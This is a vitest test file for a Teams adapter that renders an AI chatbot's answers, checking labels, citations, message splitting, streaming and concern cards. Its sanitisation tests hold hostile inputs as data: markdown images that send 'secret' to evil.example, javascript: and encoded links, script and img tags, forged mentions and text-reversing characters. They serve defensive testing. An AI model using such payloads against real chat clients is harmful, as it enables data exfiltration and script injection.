import { describe, expect, it } from 'vitest';
import { cardIn } from '../../../adapters/teams/concern-cards.ts';
import { growingText } from '../../../adapters/teams/growing.ts';
import { type RenderOptions, renderMarkdown, renderReply } from '../../../adapters/teams/render.ts';
import { at, type Json, records, textOf } from '../../../src/chat/json.ts';
import type { ConcernCard, Reply } from '../../../src/chat/reply.ts';
import { card, long, typical } from '../../fakes/typical-replies.ts';
import { strictlyCheckMessage } from './card-check.ts';

function draw(reply: Partial<Reply>, done: readonly string[] = [], options: RenderOptions = {}) {
  const rendered = renderReply({ kind: 'answer', text: '', turnId: 'turn-1', ...reply }, done, options);
  for (const message of rendered.messages) strictlyCheckMessage(message);
  return rendered;
}

describe('ten typical answers', () => {
  it.each(Object.entries(typical))('%s', async (name, { done = [], ...reply }) => {
    const golden = JSON.stringify(draw(reply, done), null, 2);
    await expect(`${golden}\n`).toMatchFileSnapshot(`golden/${name.replaceAll(' ', '-')}.txt`);
  });
});

const entitiesOf = (message: Json | undefined) => records(message?.entities);

describe('what answers carry', () => {
  it('labels every message of an answer and asks how it was below the last', () => {
    const { messages } = draw({ text: long.repeat(2) });
    expect(messages.length).toBeGreaterThan(1);
    for (const message of messages)
      expect(entitiesOf(message)).toMatchObject([{ additionalType: ['AIGeneratedContent'] }]);
    expect(messages.map((message) => at(message, 'channelData', 'feedbackLoop', 'type'))).toEqual([
      ...messages.slice(1).map(() => undefined),
      'default',
    ]);
  });

  it('carries no label where the bot itself speaks', () => {
    for (const kind of ['approval', 'stopped', 'error'] as const)
      for (const message of draw({ kind, text: 'words', approvals: [card] }).messages) {
        expect(message.entities).toBeUndefined();
        expect(message.channelData).toBeUndefined();
      }
  });

  it('shows errors and stops as such, and says what may be a repetition', () => {
    expect(draw({ kind: 'error', text: 'It failed.' }).messages[0]?.text).toBe('⚠️ It failed.');
    expect(draw({ kind: 'stopped', text: 'Stopped.' }).messages[0]?.text).toBe('⏹️ Stopped.');
    const repeated = draw({ text: '# Head', possiblyRepeated: true }).messages[0]?.text;
    expect(repeated).toBe('*This may be a repetition.*\n\n**Head**');
  });

  it('cites only the sources whose marks stand there, and shows the sensitivity that is configured', () => {
    const sensitivity = { name: 'Internal', description: 'For the team' };
    const [message] = draw(typical.sources ?? {}, [], { sensitivity }).messages;
    const [entity] = entitiesOf(message);
    expect(records(entity?.citation)).toMatchObject([
      { position: 1, appearance: { name: 'Runbook', abstract: 'how to free space' } },
      { position: 2, appearance: { url: 'https://alerts.example.com/7', abstract: 'alerts.example.com' } },
    ]);
    expect(entity?.usageInfo).toMatchObject({ name: 'Internal', description: 'For the team' });
    for (const text of [
      'Sources\n\n- nothing linked',
      'See [1].',
      'Sources\n\n- [a](https://a.example)\n\nend',
    ]) {
      const [plain] = draw({ text }).messages;
      expect(entitiesOf(plain)[0]?.citation).toBeUndefined();
    }
  });

  it('asks for each approval in a message of its own, which names it to notifications', () => {
    const { messages } = draw({ kind: 'approval', text: 'x', approvals: [card, { ...card, id: 'a-2' }] });
    expect(messages.slice(1).map(({ summary }) => summary)).toEqual([
      'host__restart: 🟡 Waits for a decision',
      'host__restart: 🟡 Waits for a decision',
    ]);
  });
});

describe('what a model writes', () => {
  it.each(['<at>Bob</at>', '</at>', '<AT id="0">x', '<b>bold</b>', '<script>', '<img src=x>'])(
    'is no tag: %s',
    (tag) => {
      const text = `${tag}\n\nIn \`${tag}\` and\n\n| a |\n|---|\n| ${tag} |\n\nthen ${tag} again`;
      const [message] = draw({ text }).messages;
      const prose = textOf(message?.text).replaceAll(/`[^`]*`/g, '');
      expect(prose).not.toContain('<');
      expect(JSON.stringify(message)).not.toMatch(/<\/?at/i);
    },
  );

  it('pings no one by @everyone in prose, and keeps code that can be copied', () => {
    const code = 'npm i @team/pkg && echo "<div>" > x.html';
    const [message] = draw({ text: `@everyone @here @channel\n\n\`\`\`sh\n${code}\n\`\`\`` }).messages;
    expect(textOf(message?.text)).not.toMatch(/@(everyone|here|channel)/);
    expect(textOf(message?.text)).toContain(code);
  });

  it('makes no client fetch a picture, and runs nothing by a link', () => {
    const text = '![x](https://evil.example/?q=secret) [y](javascript:alert(1)) [z](https://ok.example)';
    const [message] = draw({ text }).messages;
    expect(message?.text).toBe(
      '[x](https://evil.example/?q=secret) [y]\u2060(javascript:alert(1)) [z](https://ok.example)',
    );
    const hidden = 'x\n\n[a](java&#115;cript:x) [b](< data:x>) [c][d]\n\n[d]: javascript&colon;x';
    expect(textOf(draw({ text: hidden }).messages[0]?.text)).not.toMatch(/\](\(|:)/);
  });

  it.each([
    [
      'backticks that are escaped',
      '\\`![p](https://evil.example/?q=1) <img src="https://evil.example/2">\\`',
    ],
    [
      'backticks of two items of a list',
      '- use ` here\n- ![p](https://evil.example/?q=1) <img>\n- and ` there',
    ],
    [
      'backticks before and after the end of a quote',
      '> a ` b\n\nthen <a href="javascript:x">![p](u)</a> ` c',
    ],
    ['code that is too long for a paragraph', `\`${'x '.repeat(1600)}\n ![p](https://evil.example/) <img>\``],
    ['code that is cut', `\`${'x '.repeat(1600)}![p](https://evil.example/) <img> ${'y '.repeat(1600)}\``],
  ])('takes nothing for code that others do not: %s', (_name, text) => {
    const prose = (message: Json) => textOf(message.text).replaceAll(/(?<![`\\])`[^`\n]*`/g, '');
    for (const message of draw({ text }).messages) expect(prose(message)).not.toMatch(/!\[|<[a-z]/i);
    for (let end = 1; end <= text.length; end += 7)
      expect(prose({ text: growingText(text.slice(0, end)) })).not.toMatch(/!\[|<[a-z]/i);
  });

  it('cannot break out of code', () => {
    const sly = '````sh\n```\n<at>Bob</at>\n```\n````';
    expect(draw({ text: sly }).messages[0]?.text).toMatch(/^````sh\n```\n.*\n```\n````$/);
  });

  it('shows an approval’s call letter by letter', () => {
    const sly = {
      ...card,
      arguments: '{\n  "a": "**x** {{DATE(2027-01-01T00:00:00Z)}} [l](https://e.example) \u202egnp"\n}',
    };
    const { messages } = draw({ kind: 'approval', text: 'x', approvals: [sly] });
    const drawn = JSON.stringify(messages[1]);
    expect(drawn).toContain('**x**');
    expect(drawn).not.toContain('{{DATE(2027-01-01T00:00:00Z)}}');
    expect(drawn).toContain('\\\\u202egnp');
    expect(drawn).not.toContain('\u202e');
  });

  it('keeps letters that join others, and leaves out what turns a text around', () => {
    const text = '| who |\n|---|\n| 👩\u200d💻 می\u200cخواهم \u202eabc |';
    expect(JSON.stringify(draw({ text }).messages)).toContain('👩\u200d💻 می\u200cخواهم abc');
  });

  it('is drawn quickly, however odd it is', () => {
    const started = process.cpuUsage();
    for (const odd of ['[', '`', '](', '<', '# #', '|', '- ', '**', '![', '~~~\n', '[](', '`` `', '&', '@'])
      for (const text of [odd.repeat(20_000), `x${odd.repeat(20_000)}y`]) {
        draw({ text });
        growingText(text);
      }
    const { user, system } = process.cpuUsage(started);
    expect((user + system) / 1e6).toBeLessThan(60);
  });

  it('fits the limits whatever it is', () => {
    const row = '|x|y|\n';
    const data = Array.from({ length: 20 }, (_unused, n) => ({
      label: `${'\u4e00'.repeat(48)}${n}`,
      value: n,
    }));
    const manySeries = Array.from({ length: 6 }, (_unused, n) => ({ name: `${n}`, data }));
    const odd = [
      '',
      ' ',
      '|',
      '```',
      '| a |\n|---|',
      '| |\n|---|\n| |',
      '#'.repeat(20_000),
      '# ',
      'x'.repeat(50_000),
      `|a|b|\n|-|-|\n${row.repeat(300)}`,
      `|a|b|\n|-|-|\n${`|${'\u4e00'.repeat(900)}|y|\n`.repeat(40)}`,
      `${`|a|b|\n|-|-|\n${row.repeat(40)}\nbetween\n\n`.repeat(12)}`,
      '\ud83d\ude00'.repeat(9000),
      '\u4e00'.repeat(30_000),
      `${'| a '.repeat(30)}|\n${'|---'.repeat(30)}|\n${'| b '.repeat(30)}|`,
      `\`\`\`chart\n${JSON.stringify({ type: 'line', title: '\u4e00'.repeat(50), series: manySeries })}\n\`\`\``,
      '```x y z\n'.concat('\u0000'.repeat(9000)),
    ];
    for (const text of odd) {
      const { messages } = draw({ text, footer: 'f' }, ['t']);
      expect(messages.length).toBeGreaterThan(0);
      expect(messages.length).toBeLessThanOrEqual(8);
      for (const message of messages) expect(textOf(message.text)).not.toBe('');
    }
  });

  it('is whole over all messages, in its order', () => {
    const { messages } = draw({ text: `${long}\n\n${long.replaceAll('Paragraph', 'Passage')}` });
    expect(messages.length).toBeGreaterThan(1);
    const said = messages.map(({ text }) => textOf(text)).join('\n\n');
    for (let n = 0; n < 60; n += 1) {
      expect(said.split(`Paragraph ${n}:`)).toHaveLength(2);
      expect(said.split(`Passage ${n}:`)).toHaveLength(2);
    }
  });

  it('stands in its order where prose and code follow a table', () => {
    const text = '| a |\n|---|\n| 1 |\n\nafter\n\n```sh\nls\n```\n\n| b |\n|---|\n| 2 |';
    const { messages } = draw({ text });
    expect(messages).toHaveLength(1);
    const body = records(at(records(messages[0]?.attachments)[0], 'content', 'body'));
    expect(body.map(({ type }) => type)).toEqual(['Table', 'TextBlock', 'Container', 'Table']);
  });

  it('becomes a file where it would need too many messages', () => {
    const { messages, files } = draw({ text: long.repeat(10) });
    expect(messages).toHaveLength(1);
    expect(files).toEqual([{ name: 'answer.md', content: long.repeat(10) }]);
    expect(textOf(messages[0]?.text)).toContain('answer.md');
  });
});

describe('a growing answer', () => {
  const answers = [
    ...Object.values(typical).map(({ text = '' }) => text),
    '**Bold** and `code <b>` and [link](https://a.example) <b> & <https://x.example>\n\nTitle\n---\n\n1. one\n2. two',
    `- a\n${'- point of a long list\n'.repeat(300)}\n# End\n\nlast ![x](https://e.example)`,
    `${'x'.repeat(2990)} ${'y'.repeat(2990)}\n\n${long}`,
    'a\n\n```\nSources:\n- [a](https://a.example)\n```chart\n```\nSources\n\nb\n\n**References:**\n\n- [b](https://b.example)',
    'a `not closed\n\nb ``` c\n\n~~~\ncode\n~~~\nafter | bar\nno table',
  ];

  it.each(answers.map((text, n) => [n, text] as const))('only grows, up to its end (%i)', (_n, text) => {
    const whole = textOf(draw({ text }).messages[0]?.text);
    let shown = '';
    for (let end = 0; end <= text.length; end += text.length > 5000 ? 37 : 1) {
      const next = growingText(text.slice(0, end));
      expect(next.startsWith(shown), `${shown} → ${next}`).toBe(true);
      expect(whole.startsWith(next), `${next} in ${whole.slice(0, next.length + 20)}`).toBe(true);
      shown = next;
    }
  });

  it('shows prose while it comes, and code once it is whole', () => {
    expect(growingText('The disk is fu')).toBe('The disk is fu');
    expect(growingText('Run:\n\n```sh\nls')).toBe('Run:');
    expect(growingText('Run:\n\n```sh\nls\n```\n')).toBe('Run:\n\n```sh\nls\n```');
    expect(growingText(long).length).toBeGreaterThan(6000);
  });
});

describe('words of the bot', () => {
  it('says all of a long list, without a file that nobody gets', () => {
    const rows = Array.from({ length: 300 }, (_unused, n) => `| row-${n} | ${'x'.repeat(30)} |`);
    const messages = renderMarkdown(`| a | b |\n|---|---|\n${rows.join('\n')}`);
    for (const message of messages) strictlyCheckMessage(message);
    for (const row of ['row-0 ', 'row-150 ', 'row-299 ']) expect(JSON.stringify(messages)).toContain(row);
  });

  it('draws lists as tables, without labels', () => {
    const messages = renderMarkdown('| Name | Ready |\n| --- | --- |\n| gpt | yes |');
    for (const message of messages) strictlyCheckMessage(message);
    expect(messages).toHaveLength(1);
    expect(messages[0]?.entities).toBeUndefined();
    expect(messages[0]?.text).toBe('📋 Name · Ready');
  });
});

describe('what needs attention', () => {
  const id = '0b0a5ad5-9f7f-4a3f-8a11-6d1a3b9a2f10';
  const until = '2026-03-01T12:00:00.000Z';
  const told = (concern: Omit<ConcernCard, 'id'>, more: Partial<Reply> = {}, options: RenderOptions = {}) =>
    draw({ text: 'The disk is full.', turnId: id, concern: { id, ...concern }, ...more }, [], options)
      .messages;
  const titles = (message: Json | undefined) => records(cardIn(message)?.actions).map(({ title }) => title);

  it.each([
    ['open', {}, ['Acknowledge', 'Snooze …'], ''],
    ['acknowledged', { by: 'Ann' }, ['Reopen'], '✅ Acknowledged by Ann'],
    ['snoozed', { by: 'Ann', until }, ['Reopen'], 'until {{DATE(2026-03-01T12:00:00Z, SHORT)}}'],
    ['resolved', {}, [], '🟢 Resolved'],
  ] as const)('is drawn %s, with what can be done then', (state, more, buttons, line) => {
    const [message] = told({ state, ...more });
    expect(titles(message)).toEqual(buttons);
    expect(JSON.stringify(message)).toContain(line);
    expect(message?.text).toBe('The disk is full.');
  });

  it('stands in the first message, in the card of its table where it has one', () => {
    const [first, ...others] = told({ state: 'open' }, { text: `| a |\n|---|\n| b |\n\n${long.repeat(2)}` });
    expect(JSON.stringify(cardIn(first))).toContain('"Table"');
    expect(titles(first)).toEqual(['Acknowledge', 'Snooze …']);
    expect(others.length).toBeGreaterThan(0);
    expect(JSON.stringify(others)).not.toContain('concern_');
  });

  it('says nothing of people of other platforms whose names nobody knows', () => {
    const [message] = told({ state: 'open' }, { mentions: [{ principal: 'slack:T1:U1', name: '' }] });
    expect(message?.text).toBe('The disk is full.');
  });

  it('folds what it rests on behind a button, and of what is too much only the titles', () => {
    const details = Array.from({ length: 20 }, (_unused, n) => ({
      title: `Check ${n}?`,
      text: `**Rule:** ${'as it should be '.repeat(80)}`,
    }));
    const [message] = told({ state: 'open' }, { details });
    expect(titles(message)).toEqual(['Acknowledge', 'Snooze …', 'Details']);
    const folded = JSON.stringify(records(cardIn(message)?.actions).at(-1));
    expect(folded).toContain('Check 19?');
    expect(folded.match(/as it should be as it/g)?.length).toBeGreaterThan(1);
    expect(folded.length).toBeLessThan(12_000);
    strictlyCheckMessage(message ?? {});
  });

  it('notifies whom Teams knows there, and names others without a ping', () => {
    const mentions = [
      { principal: 'teams:t:ann', name: 'Ann' },
      { principal: 'teams:t:eve', name: '<at>Eve</at> @everyone' },
    ];
    const notified = new Map([['teams:t:ann', '29:ann']]);
    const concern = { id, state: 'acknowledged', by: '<at>Bob</at>' } as const;
    const reply = { kind: 'answer', text: 'The disk is full.', turnId: id, concern, mentions } as const;
    const [message] = renderReply(reply, [], { notified }).messages;
    expect(textOf(message?.text)).toMatch(/^<at>Ann<\/at> /);
    expect(entitiesOf(message).filter(({ type }) => type === 'mention')).toEqual([
      { type: 'mention', text: '<at>Ann</at>', mentioned: { id: '29:ann', name: 'Ann' } },
    ]);
    expect(JSON.stringify(message).match(/<at>/g)).toHaveLength(2);
  });
});
